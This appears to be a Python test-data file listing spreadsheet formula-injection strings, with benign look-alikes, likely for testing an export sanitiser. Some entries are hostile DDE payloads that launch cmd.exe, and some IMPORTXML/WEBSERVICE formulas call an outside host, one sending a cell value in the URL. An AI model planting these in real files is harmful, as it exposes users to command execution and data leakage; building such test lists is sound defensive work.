# Texts that spreadsheets take, or took, for formulas. Only imported.
PAYLOADS = [
    "=1+1", "=A1", "=SUM(A1:A9)", "+1+1", "-1+1", "-5", "+5", "@SUM(1+1)*9", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=HYPERLINK(\"http://example.org\",\"click\")",
    "=IMPORTXML(CONCAT(\"http://example.org?v=\",A1),\"//a\")", "=WEBSERVICE(\"http://example.org\")", "=IMAGE(\"http://example.org\")",
    "=rundll32|'URL.dll,OpenURL example.org'!A", "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", "=1+1\";=1+1",
    "\"=1+1", "\"\"=1+1", "'=1+1", "''=1+1", "\"'=1+1\"", "\u201c=1+1\u201d", "\u2018=1+1", "`=1+1", " =1+1", "   =1+1", "\u00a0=1+1", "\u3000=1+1",
    "\t=1+1", "\r=1+1", "\n=1+1", "\t1", "\r1", " \t=1+1", "\u200b=1+1", "\ufeff=1+1", "\u00ad=1+1", "\u202e=1+1", "\u2028=1+1", "\x00=1+1"[1:],
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "\ufe661+1", "\ufe621+1", "\ufe631+1", "\ufe6bSUM(1)", "\x01=1+1", "\x1b=1+1", "=", "-", "+", "@",
    "- a bullet", "=1+1,=1+1", "=1+1\n=2+2",
]
INERT = ["1-1", "a=b", "3+ years", "x@example.org", "'", "\"", "'quoted'", "#1", "5", "00419567", "2011-09", "a\t=1", "(=1)", "*1", "/1", "%1", "|x"]
